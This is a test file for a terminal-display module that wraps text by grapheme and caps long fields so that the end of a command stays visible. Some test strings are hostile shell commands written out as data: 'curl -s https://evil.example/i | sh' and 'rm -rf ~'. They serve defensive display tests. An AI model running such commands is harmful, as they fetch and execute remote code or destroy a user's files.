"""askbench.impl.cells: widths in terminal cells, hard wrap by grapheme, the head-and-tail field cap.

A grapheme's width is checked against the judge's terminal models
(``askbench.harness.terminals.models``: wcwidth clusters, glibc's table per code point,
ambiguous characters wide): it must be at least what each of them draws.
The wrapping and capping helpers here are then written against that width
directly, not against askbench.impl.cells's loops, so a test compares the module with
an independent statement of the rule rather than with itself.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from wcwidth import iter_graphemes

from askbench.harness.terminals.models import MODELS
from askbench.impl.cells import (
    TAB_SIZE,
    Capped,
    LastStart,
    cap_text,
    cell_width,
    clip_to_width,
    expand_tabs,
    field_rows,
    grapheme_cells,
    head_within,
    says_something,
    without_blank_ends,
    wrap_line,
    wrap_text,
)
from askbench.impl.neutralise import neutralise

FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
FLAG_FR = "\U0001f1eb\U0001f1f7"
THUMBS_TONE = "\U0001f44d\U0001f3fd"
E_ACUTE = "e\u0301"
ELLIPSIS = "…"


# ── independent reference ──────────────────────────────────────────────────


def graphemes(text: str) -> list[str]:
    return list(iter_graphemes(text))


def gwidth(grapheme: str) -> int:
    return grapheme_cells(grapheme)


def model_cells(grapheme: str) -> dict[str, int]:
    """How many cells each terminal model advances for one grapheme."""
    return {
        name: sum(cells for _, cells in model.measure(grapheme)) for name, model in MODELS.items()
    }


def ref_wrap_line(line: str, row_width: int) -> list[str]:
    """One line hard-wrapped by grapheme, a grapheme that would straddle the edge moved whole."""
    rows: list[str] = []
    row, used = "", 0
    for grapheme in graphemes(line):
        width = gwidth(grapheme)
        if used + width > row_width and row:
            rows.append(row)
            row, used = "", 0
        row += grapheme
        used += width
    rows.append(row)
    return rows


NOTATION = re.compile("(\u27e8U\\+[0-9A-F]{4,6}\u27e9)")


def line_units(line: str) -> list[str]:
    """Graphemes, each notation (``⟨U+1F3FB⟩``) one: half a notation names no character — but one that opens
    the line is cut anywhere, as showing part of it says more than showing nothing."""
    out: list[str] = []
    for index, part in enumerate(NOTATION.split(line)):
        opening = index == 1 and not out
        out.extend(list(part) if opening else [part] if index % 2 else graphemes(part))
    return out


def units(text: str) -> list[str]:
    """Units per line with the line breaks between them: the units a cut may fall between."""
    out: list[str] = []
    for index, line in enumerate(text.split("\n")):
        if index:
            out.append("\n")
        out.extend(line_units(line))
    return out


# ── strategies ─────────────────────────────────────────────────────────────

PIECES = (
    "漢字",
    "かな",
    "한국어",
    FAMILY,
    FLAG_FR,
    THUMBS_TONE,
    E_ACUTE,
    "\u2764\ufe0f",
    "é",
    "ab",
    " ",
    "\n",
    "x" * 30,
    "宽" * 9,
)
raw_text = st.lists(
    st.one_of(st.text(st.characters(exclude_categories=())), st.sampled_from(PIECES)), max_size=12
).map("".join)
# The cells functions take neutralised text: no control characters; tabs left out (expanded separately).
clean_text = raw_text.map(lambda text: neutralise(text).replace("\t", " "))
clean_line = clean_text.map(lambda text: text.replace("\n", " "))


# ── cell_width ─────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "cells"),
    [
        ("", 0),
        ("abc", 3),
        ("漢字", 4),
        ("a漢b", 4),
        (E_ACUTE, 1),
        (FAMILY, 8),  # four wide code points on a terminal that measures code points alone
        (THUMBS_TONE, 4),  # the skin-tone modifier is a wide code point of its own there
        ("…▶·→", 8),  # East Asian Ambiguous: 2 cells each on a CJK-locale terminal
        ("a" + "\u302e" * 6, 13),  # a spacing tone mark is 2 cells to the C library, 0 to wcwidth
        ("\u3248", 2),  # circled number ten on black square: ambiguous, wide to glibc
    ],
)
def test_cell_width_is_the_widest_terminal(text: str, cells: int) -> None:
    assert cell_width(text) == cells


@given(clean_line)
def test_cell_width_is_the_sum_of_grapheme_widths(line: str) -> None:
    assert cell_width(line) == sum(gwidth(g) for g in graphemes(line))


@given(clean_line)
def test_no_terminal_model_draws_a_grapheme_wider_than_it_is_counted(line: str) -> None:
    for grapheme in graphemes(line):
        drawn = model_cells(grapheme)
        assert all(cells <= grapheme_cells(grapheme) for cells in drawn.values()), (grapheme, drawn)


# ── expand_tabs ────────────────────────────────────────────────────────────


def test_expand_tabs_ascii_uses_stops_every_eight_cells() -> None:
    assert expand_tabs("a\tb") == "a" + " " * 7 + "b"
    assert expand_tabs("\t") == " " * TAB_SIZE
    assert expand_tabs("no tabs") == "no tabs"


def test_expand_tabs_counts_cells_not_characters() -> None:
    # 漢 takes two cells, so the tab fills six to reach the stop at eight; the family takes eight at most.
    assert expand_tabs("漢\tx") == "漢" + " " * 6 + "x"
    assert expand_tabs(FAMILY + "\t|") == FAMILY + " " * 8 + "|"


@given(st.lists(st.one_of(clean_line, st.just("\t")), max_size=8).map("".join))
def test_expanded_tabs_land_on_stops(line: str) -> None:
    expanded = expand_tabs(line)
    assert "\t" not in expanded
    # every original tab ends at a multiple of TAB_SIZE cells
    column, out_index = 0, 0
    pieces = graphemes(line)
    out = graphemes(expanded)
    for grapheme in pieces:
        if grapheme == "\t":
            pad = TAB_SIZE - column % TAB_SIZE
            assert out[out_index : out_index + pad] == [" "] * pad
            out_index += pad
            column += pad
            assert column % TAB_SIZE == 0
        else:
            assert out[out_index] == grapheme
            out_index += 1
            column += gwidth(grapheme)
    assert out_index == len(out)


# ── wrap_line / wrap_text ──────────────────────────────────────────────────


def test_wrap_line_ascii_is_hard_wrapped_by_cell_keeping_every_space() -> None:
    assert wrap_line("abcdefgh", 3) == ["abc", "def", "gh"]
    assert wrap_line("a b c d", 2) == ["a ", "b ", "c ", "d"]
    assert wrap_line("", 5) == [""]


def test_a_wide_character_at_the_edge_moves_whole() -> None:
    assert wrap_line("a漢", 2) == ["a", "漢"]
    assert wrap_line("ab漢字", 3) == ["ab", "漢", "字"]


@pytest.mark.parametrize(
    "cluster",
    [
        FAMILY,
        FLAG_FR,
        THUMBS_TONE,
        E_ACUTE,
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    ],
)
def test_graphemes_never_split_at_a_wrap(cluster: str) -> None:
    line = "x" + cluster * 7
    for row_width in range(2, 9):
        rows = wrap_line(line, row_width)
        assert "".join(rows) == line
        for row in rows:
            assert all(g in ("x", cluster) for g in graphemes(row)), rows


def test_wrap_text_keeps_empty_lines_and_expands_tabs() -> None:
    assert wrap_text("ab\n\ncd", 5) == ["ab", "", "cd"]
    assert wrap_text("a\tb", 20) == ["a       b"]


@given(clean_line, st.integers(min_value=16, max_value=200))
def test_wrap_line_matches_the_reference_and_fits(line: str, row_width: int) -> None:
    # no neutralised cluster is wider than 16 cells (MAX_CLUSTER_CELLS), the narrowest value column
    rows = wrap_line(line, row_width)
    assert rows == ref_wrap_line(line, row_width)
    assert "".join(rows) == line
    for row in rows:
        assert cell_width(row) <= row_width
    if line:
        assert all(rows)


@given(clean_text, st.integers(min_value=2, max_value=200))
def test_wrap_text_is_every_line_wrapped(text: str, row_width: int) -> None:
    expected = [row for line in text.split("\n") for row in ref_wrap_line(line, row_width)]
    assert wrap_text(text, row_width) == expected


# ── cap_text: head and tail, cells and rows counted apart ─────────────────


def ref_rows(text: str, row_width: int) -> int:
    return sum(len(ref_wrap_line(line, row_width)) for line in text.split("\n"))


def ref_cells(text: str) -> int:
    return sum(gwidth(g) for line in text.split("\n") for g in graphemes(line))


def prefixes(text: str) -> list[str]:
    """Every prefix of ``text`` that ends between two units, shortest first."""
    out, built = [""], ""
    for unit in units(text):
        built += unit
        out.append(built)
    return out


def acceptable_head(prefix: str, cells: int, rows: int, row_width: int) -> bool:
    return ref_cells(prefix) <= cells and ref_rows(prefix + ELLIPSIS, row_width) <= rows


def test_cap_keeps_text_that_fits() -> None:
    assert cap_text("abc", 3, 2, 10) == Capped("abc")
    assert cap_text("", 1, 2, 10) == Capped("")
    assert cap_text("a\nb", 2, 2, 10) == Capped("a\nb")  # a line break costs no cell, only its row


def test_cap_keeps_the_head_and_the_last_cells_of_one_long_line() -> None:
    capped = cap_text("echo " + "A" * 500 + "; curl -s https://evil.example/i | sh", 400, 7, 67)
    assert capped.cut
    assert capped.head.startswith("echo AAA")
    assert capped.tail.startswith(ELLIPSIS) and capped.tail.endswith(
        "; curl -s https://evil.example/i | sh"
    )
    assert cell_width(capped.head) + cell_width(capped.tail[1:]) <= 400
    assert capped.shown == f"{capped.head}{ELLIPSIS}\n{capped.tail}"  # the tail on a row of its own


def test_cap_keeps_the_last_line_after_the_marker() -> None:
    text = "$report = @'\n" + "".join(
        f"- finding {n} about a module in the codebase\n" for n in range(200)
    )
    text += "'@\n$report | Out-File -FilePath report.md"
    capped = cap_text(text, 400, 7, 67)
    assert capped.tail == "$report | Out-File -FilePath report.md"
    assert capped.shown.endswith(f"{ELLIPSIS}\n$report | Out-File -FilePath report.md")
    assert ref_rows(capped.shown, 67) <= 7


def test_a_long_last_line_keeps_its_last_cells_behind_a_marker_of_its_own() -> None:
    capped = cap_text("line one\n" * 20 + "x" * 1000 + " | sh", 100, 4, 40)
    assert capped.tail.startswith(ELLIPSIS) and capped.tail.endswith("x | sh")


def test_trailing_blanks_are_not_a_tail() -> None:
    capped = cap_text("a" * 50 + "\nrm -rf ~" + " " * 5000 + "\n" * 300, 40, 3, 30)
    assert capped.cut and capped.tail == "rm -rf ~"


def test_a_tail_never_starts_with_a_cut_number_after_the_marker() -> None:
    # "…485" would read as a count of what was cut
    capped = cap_text("title " * 100 + "486 then more", 20, 2, 100)
    assert not capped.tail.lstrip(ELLIPSIS)[:1].isdigit()


def test_a_tail_reaches_back_to_the_name_an_operator_began() -> None:
    """Half the cap would start the tail inside ``curl``; a few cells more show the command whole (the head pays)."""
    text = "x" * 60 + "; curl -s https://e.x/i"
    half = cap_text(text, 40, 2, 100)
    assert half.tail == f"{ELLIPSIS}curl -s https://e.x/i"
    assert len(half.head) == 40 - len("curl -s https://e.x/i")
    inside_a_word = cap_text(
        "x" * 60 + " " + "y" * 30, 40, 2, 100
    )  # no operator: a word like any other, cut
    assert inside_a_word.tail == ELLIPSIS + "y" * 20
    far = cap_text(
        "x" * 60 + ";" + "z" * 50, 40, 2, 100
    )  # a name longer than NAME_KEEP: the tail keeps its half
    assert far.tail == ELLIPSIS + "z" * 20


def test_a_tail_reaches_back_to_where_the_last_command_starts_within_what_it_may_take() -> None:
    """Half the cap starts the tail past the last command's name (``0`` opening its line, blanks after it);
    ``LastStart`` lets it take up to ``most`` cells to show the command from its start, the head paying."""
    text = "a" * 60 + "\n0       " + "b" * 40  # as shown: the tab expanded
    reached = cap_text(text, 80, 2, 100, last=LastStart("", 56))
    assert reached.tail == "0       " + "b" * 40
    assert reached.head == "a" * 32
    assert cap_text(text, 80, 2, 100).tail == f"{ELLIPSIS}{'b' * 40}"  # no LastStart: its half
    assert cap_text(text, 80, 2, 100, last=LastStart("", 47)).tail == f"{ELLIPSIS}{'b' * 40}"


def test_a_last_command_named_in_digits_keeps_them_where_no_operator_begins_it() -> None:
    """``then 7 …``: the tail opens on the last command's start, so ``7`` is its name, not a count."""
    text = "x" * 50 + "; then 7 " + "b" * 45
    capped = cap_text(text, 80, 2, 100, last=LastStart("x" * 50 + "; then ", 60))
    assert capped.tail == f"{ELLIPSIS}7 {'b' * 45}"


def test_a_last_command_over_lines_takes_them_within_what_it_may_take() -> None:
    """The last command starts a line before the last, and its lines are more than half the cap."""
    text = "a" * 60 + "\n7 \\\n" + "b" * 40
    capped = cap_text(text, 80, 4, 100, tail_lines=1, last=LastStart("", 56))
    assert capped.tail == "7 \\\n" + "b" * 40
    assert cap_text(text, 80, 4, 100, tail_lines=1).tail == "b" * 40  # its last line only


def test_digits_that_start_a_word_stay_in_the_tail() -> None:
    """A command named in digits after ``;`` is the text's own word, not a count (found by hypothesis)."""
    capped = cap_text(
        "x" * 60 + ";000000000000:<in", 32, 2, 100
    )  # the tail is owed 16 cells: the word exactly
    assert capped.tail == f"{ELLIPSIS}000000000000:<in"


def test_four_hundred_line_breaks_take_the_field_rows_not_four_hundred() -> None:
    capped = cap_text("\n" * 400 + "tail", 400, field_rows(400), 100)
    assert ref_rows(capped.shown, 100) <= field_rows(400)
    assert capped.tail == "tail"


def test_field_rows_do_not_depend_on_the_width() -> None:
    assert field_rows(400) == 7
    assert field_rows(65) == 2  # a head row and a tail row
    assert field_rows(40) == 1  # a cap too small for both: the head


@given(clean_text, st.integers(1, 60), st.integers(1, 6), st.integers(2, 40))
def test_head_within_is_the_longest_acceptable_prefix(
    text: str, cells: int, rows: int, row_width: int
) -> None:
    head = head_within(text, cells, rows, row_width)
    candidates = [
        prefix for prefix in prefixes(text) if acceptable_head(prefix, cells, rows, row_width)
    ]
    assert head == (candidates[-1] if candidates else "")


@st.composite
def cap_rows_width(draw: st.DrawFn) -> tuple[int, int, int]:
    """Rows of at least two cells (no grapheme is wider than its row; the renderer's are 12 or more)."""
    return draw(st.integers(1, 300)), draw(st.integers(2, 8)), draw(st.integers(2, 120))


@given(clean_text, cap_rows_width())
@example(
    ")00", (1, 2, 4)
)  # a name an operator began is owed to the tail, but never past the whole cap
def test_cap_bounds_cells_and_rows_and_keeps_both_ends(
    text: str, budget: tuple[int, int, int]
) -> None:
    cap, rows, row_width = budget
    capped = cap_text(text, cap, rows, row_width)
    fits = ref_cells(text) <= cap and ref_rows(text, row_width) <= rows
    assert capped.cut == (not fits)
    if fits:
        assert capped.shown == text
        return
    assert ref_cells(capped.head) + ref_cells(capped.tail.removeprefix(ELLIPSIS)) <= cap
    assert ref_rows(capped.shown, row_width) <= rows
    assert capped.head in prefixes(text), "the head is a prefix that never splits a grapheme"
    tail = (
        capped.tail
        if text.rstrip(" \n").endswith(capped.tail)
        else capped.tail.removeprefix(ELLIPSIS)
    )
    assert text.rstrip(" \n").endswith(tail), "the tail is the end of what the text shows"
    assert len(capped.head) + len(tail) <= len(text)


def shown_positions(text: str, capped: Capped) -> set[int]:
    """The characters of ``text`` a capped view shows: its head from the start, its tail back from the last non-blank."""
    if not capped.cut:
        return set(range(len(text)))
    end = len(text.rstrip(" \n"))
    tail = (
        capped.tail
        if text.rstrip(" \n").endswith(capped.tail)
        else capped.tail.removeprefix(ELLIPSIS)
    )
    return set(range(len(capped.head))) | set(range(end - len(tail), end))


@given(clean_text, cap_rows_width(), st.integers(1, 80))
def test_a_wider_row_never_shows_less(text: str, budget: tuple[int, int, int], extra: int) -> None:
    cap, rows, row_width = budget
    narrow = cap_text(text, cap, rows, row_width)
    wide = cap_text(text, cap, rows, row_width + extra)
    assert shown_positions(text, narrow) <= shown_positions(text, wide)


# ── clip_to_width ──────────────────────────────────────────────────────────


def test_clip_to_width() -> None:
    assert clip_to_width("abcdef", 3) == "abc"
    assert clip_to_width("漢字", 3) == "漢"
    assert clip_to_width(FAMILY + "x", 1) == ""


@given(clean_line, st.integers(min_value=0, max_value=60))
def test_clip_is_the_longest_fitting_grapheme_prefix(line: str, max_width: int) -> None:
    clipped = clip_to_width(line, max_width)
    assert line.startswith(clipped)
    assert cell_width(clipped) <= max_width
    pieces = line_units(line)
    taken = line_units(clipped)
    assert pieces[: len(taken)] == taken
    if len(taken) < len(pieces):
        assert cell_width(clipped) + gwidth(pieces[len(taken)]) > max_width


@pytest.mark.parametrize(
    ("text", "cells"),
    [
        (
            "a\u0898",
            2,
        ),  # ARABIC SMALL HIGH WORD AL-JUZ (Unicode 14): a cell of its own on xterm.js, Unicode 6 or 11 tables
        ("a\u1abe", 2),  # an enclosing mark of Unicode 7.0
        (
            "a\U00016fe4",
            3,
        ),  # KHITAN SMALL SCRIPT FILLER (Unicode 13): a wide mark, two cells where it is not combined
        ("\U0001f93b", 2),
        ("\U0001f946", 2),  # MODERN PENTATHLON, RIFLE: two cells on xterm.js with Unicode 11
        ("\U0001f0a1", 2),  # a playing card: a symbol of the emoji blocks, wide wherever they are
        ("e\u0301", 1),
        ("\u0915\u093f", 2),
        ("a\ufe0f", 1),  # marks of Unicode 3.2 join the cell before them everywhere
    ],
)
def test_the_reference_counts_what_a_terminal_with_older_or_emoji_tables_draws(
    text: str, cells: int
) -> None:
    assert grapheme_cells(text) == cells


# ── a tail that says something ─────────────────────────────────────────────

JSON_BODY = (
    "curl -d '{\n"
    + "".join(f'  "k{n}": "{"v" * 30}",\n' for n in range(20))
    + '  "cmd": "rm -rf ~"\n}\n\'\n'
)


@pytest.mark.parametrize("text", ["}", "]);", " )} ", "\u27e9", "- ", ""])
def test_closing_brackets_and_operators_say_nothing(text: str) -> None:
    assert not says_something(text)


@pytest.mark.parametrize("text", ["x}", "0]", "\u27e8U+0007\u27e9", "\U0001f600", "$"])
def test_a_letter_digit_pictograph_or_notation_says_something(text: str) -> None:
    assert says_something(text)


@pytest.mark.parametrize("row_width", [60, 100, 140])
def test_a_tail_reaches_back_over_closing_lines_to_one_that_says_something(row_width: int) -> None:
    capped = cap_text(JSON_BODY, 400, field_rows(400), row_width)
    assert capped.cut and capped.tail == '  "cmd": "rm -rf ~"\n}\n\''


def test_a_tail_reaching_back_never_lets_a_wider_terminal_show_less() -> None:
    """Chosen on cells alone: where its lines do not fit the rows, the closing lines follow the last cells of the line
    that says something, after a marker of their own."""
    shown = [cap_text(JSON_BODY, 400, field_rows(400), width) for width in (12, 30, 60, 100, 140)]
    sizes = [len(capped.head) + len(capped.tail) for capped in shown]
    assert sizes == sorted(sizes)
    # a text that runs, whose tail may take rows past its share, as well
    owed = [
        cap_text(JSON_BODY, 400, field_rows(400), width, runs=True)
        for width in (3, 5, 8, 12, 20, 140)
    ]
    assert [len(capped.head) + len(capped.tail) for capped in owed] == sorted(
        len(capped.head) + len(capped.tail) for capped in owed
    )
    assert (
        shown[0].tail.startswith(ELLIPSIS)
        and shown[0].tail.endswith("~\"\n}\n'")
        and says_something(shown[0].tail[1:-4])
    )


def test_a_text_that_ends_in_closing_lines_too_long_to_reach_back_over_shows_no_tail() -> None:
    text = "[" * 300 + "x" + "\n]" * 300
    capped = cap_text(text, 400, field_rows(400), 100)
    assert capped.cut and capped.tail == ""


@given(st.text(max_size=600))
def test_kept_pieces_are_the_pieces_a_scan_gives(line: str) -> None:
    # a short line's pieces are segmented once and kept; a long one's are read as they come: both the same pieces
    from askbench.impl.cells import _pieces, _scan_pieces

    assert list(_pieces(line)) == list(_scan_pieces(line))
    assert list(_pieces(line)) == list(_pieces(line))


def test_a_final_line_break_does_not_cut_a_field_that_fits() -> None:
    """``0\\n:\\n`` is two lines to a person; cut for its third, empty one it hid the last command ``:``."""
    assert cap_text("0\n:\n", 80, field_rows(80), 70) == Capped("0\n:")
    assert cap_text("0\n:\nx", 80, field_rows(80), 70).cut


def test_closing_lines_of_commands_take_the_rows_they_need_within_the_fields_rows() -> None:
    """A last line that says nothing may be the command that runs last (``:``): in a text that runs, its closing
    lines take the rows they need past the tail's share, and the head keeps its first row; in any other text
    they keep the share, and no tail fits."""
    text = "echo " + "a" * 100 + "\nls\n:"
    capped = cap_text(text, 80, field_rows(80), 66, runs=True)
    assert capped.cut and capped.tail == "ls\n:"
    assert capped.head.startswith("echo a")
    assert cap_text(text, 80, field_rows(80), 66).tail == ""


def test_a_tail_whose_lines_follow_the_heads_makes_the_whole() -> None:
    """Head ``0`` and tail ``0\\n)`` leave nothing between them: the field is shown whole, with no marker."""
    assert cap_text("0\n0\n)", 80, field_rows(80), 70, runs=True) == Capped("0\n0\n)")


def test_no_cut_falls_inside_a_notation() -> None:
    """Half of ``⟨U+1F3FB⟩`` names no character: the head ends before a notation and the tail opens after one."""
    text = "\u27e8U+1F3FB\u27e9" * 12
    for cells in range(10, 60):
        capped = cap_text(text, cells, 3, 37)
        assert capped.head in prefixes(text)
        assert text.endswith(capped.tail.removeprefix(ELLIPSIS))
        assert capped.tail.removeprefix(ELLIPSIS)[:1] in ("\u27e8", "")
    assert clip_to_width("a" + text, 6) == "a"
    opening = cap_text(
        text, 8, 1, 37
    ).head  # a notation that opens the line shows in part: that says a cut
    assert opening and text.startswith(opening) and len(opening) < len("\u27e8U+1F3FB\u27e9")


@pytest.mark.parametrize(
    ("text", "ends"),
    [
        ("\n\n  a b\n \n", "  a b"),  # blank lines before, blanks after: a field may leave them out
        (" \ufe00", " \ufe00"),  # a blank that is a cluster's base stays (found by fuzz)
        ("a\t \n", "a\t"),
        (" \n", ""),
    ],
)
def test_without_blank_ends_leaves_out_what_shows_nothing(text: str, ends: str) -> None:
    assert without_blank_ends(text) == ends
